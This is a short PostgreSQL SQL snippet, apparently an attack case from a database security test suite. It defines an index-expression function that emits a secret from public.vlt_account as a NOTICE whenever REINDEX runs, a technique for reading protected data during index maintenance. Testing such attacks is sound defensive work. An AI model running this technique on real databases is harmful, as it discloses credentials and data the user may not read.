-- Reads in a function of an index that is made anew.
-- wants: read
-- attack:
CREATE TABLE kept (id int);
INSERT INTO kept VALUES (1);
CREATE FUNCTION peek(one int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$
BEGIN RAISE NOTICE '%', (SELECT secret FROM public.vlt_account LIMIT 1); RETURN one; END
$f$;
CREATE INDEX kept_peek ON kept (peek(id));
REINDEX TABLE kept;
